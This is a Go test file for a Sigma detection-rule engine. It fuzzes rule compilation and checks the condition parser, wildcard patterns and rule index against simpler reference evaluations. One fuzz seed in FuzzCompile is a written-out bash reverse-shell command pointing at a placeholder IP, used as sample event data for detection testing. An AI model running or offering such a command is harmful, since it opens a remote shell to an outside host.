// SPDX-License-Identifier: Apache-2.0

package sigma

import (
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"time"
	"unicode/utf8"
)

// FuzzCompile: a rule file of any kind neither panics nor, where it loads, makes matching panic; and the index
// agrees with plain evaluation.
func FuzzCompile(f *testing.F) {
	own, _ := filepath.Glob("rules/*.yml")
	for _, p := range append(own, "testdata/correlation/rules.yml") {
		raw, err := os.ReadFile(p)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(raw, "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")
	}
	refused, err := os.ReadFile("testdata/refused.txt")
	if err != nil {
		f.Fatal(err)
	}
	for _, c := range strings.Split(string(refused), "\n====\n") {
		doc, _, _ := strings.Cut(c, "\n----\n")
		f.Add([]byte(doc), "x")
	}
	f.Fuzz(func(t *testing.T, doc []byte, value string) {
		set, rep, err := Compile([]Source{{FS: fstest.MapFS{"r.yml": {Data: doc}}}}, Options{Placeholders: map[string][]string{"a": {"b*", "c"}}})
		if err != nil {
			t.Skip(err)
		}
		if rep.Loaded+len(rep.Refused) != rep.Total {
			t.Fatalf("loaded %d + refused %d != total %d", rep.Loaded, len(rep.Refused), rep.Total)
		}
		s := NewStream(set, StreamConfig{Budget: 4096})
		for _, r := range set.Rules() {
			if r.Correlation() {
				continue
			}
			ev := MapEvent{Source: r.LogSource, Raw: value, Values: map[string]string{}}
			for _, n := range fieldNames(r.expr, nil) {
				ev.Values[n] = value
			}
			if got, want := slices.Contains(matched(set, ev), r.ID), r.expr.holds(ev, nil); got != want {
				t.Fatalf("index says %v, plain evaluation %v", got, want)
			}
			s.Match(time.Unix(0, 0), 1, ev, func(Match) {})
		}
		s.Advance(time.Unix(1<<32, 0), func(Match) {})
	})
}

func fieldNames(e *expr, names []string) []string {
	if e.test != nil && e.test.field != "" {
		names = append(names, e.test.field)
	}
	for _, k := range e.kids {
		names = fieldNames(k, names)
	}
	return names
}

// FuzzCondition compares the parser with a twin that turns the text into a boolean formula by rewriting alone.
func FuzzCondition(f *testing.F) {
	for _, s := range []string{"a and not b", "a or b and not c", "not (a or b) and c", "1 of sel_*", "all of them", "not 1 of sel_* or a", "not not a", "((a))"} {
		f.Add(s, uint8(5))
	}
	f.Fuzz(func(t *testing.T, s string, bits uint8) {
		names := []string{"a", "b", "c", "sel_1", "sel_2", "_x"}
		found := map[string]*expr{}
		truth := map[string]bool{}
		ev := MapEvent{Values: map[string]string{}}
		for i, n := range names {
			truth[n] = bits>>i&1 == 1
			if truth[n] {
				ev.Values[n] = "1"
			}
			found[n] = leaf(&test{kind: testExists, field: n, want: true})
		}
		e, err := parseCondition(s, names, found)
		if err != nil {
			return
		}
		if got, want := e.holds(ev, nil), slowCondition(s, names, truth); got != want {
			t.Errorf("%q: got %v, want %v", s, got, want)
		}
	})
}

// slowCondition rewrites the innermost pieces to T or F until one is left.
func slowCondition(s string, names []string, truth map[string]bool) bool {
	toks := strings.Fields(strings.NewReplacer("(", " ( ", ")", " ) ").Replace(s))
	letter := map[bool]string{true: "T", false: "F"}
	var out []string
	for i := 0; i < len(toks); i++ {
		w := toks[i]
		low := strings.ToLower(w)
		if _, isName := truth[w]; !isName && i+2 < len(toks) && strings.ToLower(toks[i+1]) == "of" {
			want := toks[i+2]
			re := regexp.MustCompile("^" + strings.ReplaceAll(regexp.QuoteMeta(want), `\*`, ".*") + "$")
			all, any := true, false
			for _, n := range names {
				if strings.EqualFold(want, "them") && n[0] != '_' || !strings.EqualFold(want, "them") && re.MatchString(n) {
					all, any = all && truth[n], any || truth[n]
				}
			}
			out = append(out, letter[low == "all" && all || low != "all" && any])
			i += 2
			continue
		}
		if low == "and" || low == "or" || low == "not" || w == "(" || w == ")" {
			out = append(out, low)
		} else {
			out = append(out, letter[truth[w]])
		}
	}
	line := " " + strings.Join(out, " ") + " "
	rules := [][2]string{{" ( T ) ", " T "}, {" ( F ) ", " F "}, {" not T ", " F "}, {" not F ", " T "},
		{" T and T ", " T "}, {" T and F ", " F "}, {" F and T ", " F "}, {" F and F ", " F "}}
	for {
		before := line
		for _, r := range rules {
			line = strings.ReplaceAll(line, r[0], r[1])
		}
		if line == before {
			// Only when nothing binds tighter: or between values whose neighbours are not "and" or "not".
			line = orBetween.ReplaceAllStringFunc(line, func(m string) string {
				sub := orBetween.FindStringSubmatch(m)
				return sub[1] + letter[strings.Contains(sub[2], "T")] + sub[3]
			})
		}
		if line == before {
			return strings.TrimSpace(line) == "T"
		}
	}
}

var orBetween = regexp.MustCompile(`(^ |\( |or )([TF] or [TF])( \)| or| $)`)

// FuzzPattern compares wildcards and the automaton with a regular expression made from the pattern.
func FuzzPattern(f *testing.F) {
	for _, s := range [][2]string{{"a*b", "axxb"}, {`a\*b`, "a*b"}, {`a\\*b`, `a\xb`}, {"*a?c*", "zabcz"}, {"??", "é!"}, {"", ""}, {"*", ""}, {"A*É", "axé"}} {
		f.Add(s[0], s[1], true)
		f.Add(s[0], s[1], false)
	}
	f.Fuzz(func(t *testing.T, pat, value string, cased bool) {
		if !utf8.ValidString(pat) || !utf8.ValidString(value) || len(pat) > 200 {
			return // the twin knows only runes
		}
		checkPattern(t, pat, value, cased)
	})
}

func checkPattern(t *testing.T, pat, value string, cased bool) {
	t.Helper()
	var b strings.Builder
	b.WriteString("(?s")
	if !cased {
		b.WriteString("i")
	}
	b.WriteString(`)\A`)
	for _, pc := range parsePattern(pat) {
		switch pc.wild {
		case '*':
			b.WriteString(".*")
		case '?':
			b.WriteString(".")
		default:
			b.WriteString(regexp.QuoteMeta(pc.lit))
		}
	}
	b.WriteString(`\z`)
	re, err := regexp.Compile(b.String())
	if err != nil {
		return
	}
	want := re.MatchString(value)
	tt := &test{field: "f", cased: cased}
	tt.setPattern(parsePattern(pat))
	ev := MapEvent{Source: LogSource{Category: "c"}, Values: map[string]string{"f": value}}
	if got := tt.holds(ev); got != want {
		t.Errorf("pattern %q value %q cased %v: plain says %v, twin %v", pat, value, cased, got, want)
	}
	r := &Rule{ID: "r", LogSource: LogSource{Category: "c"}, expr: leaf(tt)}
	set, err := newSet([]*Rule{r}, []*Rule{r})
	if err != nil {
		t.Fatal(err)
	}
	if got := len(matched(set, ev)) == 1; got != want {
		t.Errorf("pattern %q value %q cased %v: index says %v, twin %v", pat, value, cased, got, want)
	}
}

// TestPatternsRandom runs the same comparison over short random texts, where chance meets every corner.
func TestPatternsRandom(t *testing.T) {
	rnd := rand.New(rand.NewPCG(1, 2))
	text := func(alphabet string, n int) string {
		rs := []rune(alphabet)
		out := make([]rune, rnd.IntN(n))
		for i := range out {
			out[i] = rs[rnd.IntN(len(rs))]
		}
		return string(out)
	}
	for range 20000 {
		checkPattern(t, text(`aBs*?\é`, 7), text("abBsSſéÉ*\\\n", 7), rnd.IntN(4) == 0)
	}
}

// TestIndexRandom compares the index with plain evaluation over random rules and events: every kind of test, all
// connectives, and fields that are absent.
func TestIndexRandom(t *testing.T) {
	rnd := rand.New(rand.NewPCG(3, 4))
	pick := func(s ...string) string { return s[rnd.IntN(len(s))] }
	item := func() string {
		f := pick("f", "g", "h")
		switch rnd.IntN(8) {
		case 0:
			return f + `|re: '` + pick("a+b", "(?i)x|ab", "^a", "b$", "[ab]{2,}c", "(ab|bc)+", "a.c") + `'`
		case 1:
			return f + ": null"
		case 2:
			return f + "|" + pick("gt", "lte") + ": " + pick("1", "5")
		case 3:
			return f + "|" + pick("exists: true", "exists: false", "cidr: 10.0.0.0/8", "fieldref: g", "neq: ab", "cased: aB", "contains|cased: B")
		default:
			return f + pick("", "|contains", "|startswith", "|endswith", "|contains|all") + ": [" + pick("a", "ab", "'*b'", "'a?c'", "''", "3") + ", " + pick("b", "bc", "10.1.1.1", "'a*c'", "AB") + "]"
		}
	}
	fires := 0
	for round := range 300 {
		var docs []string
		for i := range 8 {
			docs = append(docs, fmt.Sprintf("title: t\nid: r%d\nlogsource: {category: c}\ndetection:\n    s1: {%s}\n    s2:\n        - {%s}\n        - {%s}\n    condition: %s", i, item(), item(), item(),
				pick("s1 and s2", "s1 or s2", "s1 and not s2", "not s1", "all of s*", "1 of s*", "s2", "not s1 and s2")))
		}
		set := compileOne(t, strings.Join(docs, "\n---\n"), Options{})
		for range 60 {
			ev := MapEvent{Source: LogSource{Category: "c"}, Values: map[string]string{}}
			for _, f := range []string{"f", "g", "h"} {
				if rnd.IntN(5) > 0 {
					ev.Values[f] = pick("a", "ab", "AB", "abc", "aBc", "bc", "xabcx", "3", "10.1.1.1", "", "7", "aéc")
				}
			}
			got := matched(set, ev)
			for _, r := range set.Rules() {
				want := r.expr.holds(ev, nil)
				if want {
					fires++
				}
				if slices.Contains(got, r.ID) != want {
					t.Fatalf("round %d: %s on %v: index %v, plain %v\n%s", round, r.ID, ev.Values, !want, want, strings.Join(docs, "\n---\n"))
				}
			}
		}
	}
	t.Logf("%d matches compared", fires)
}
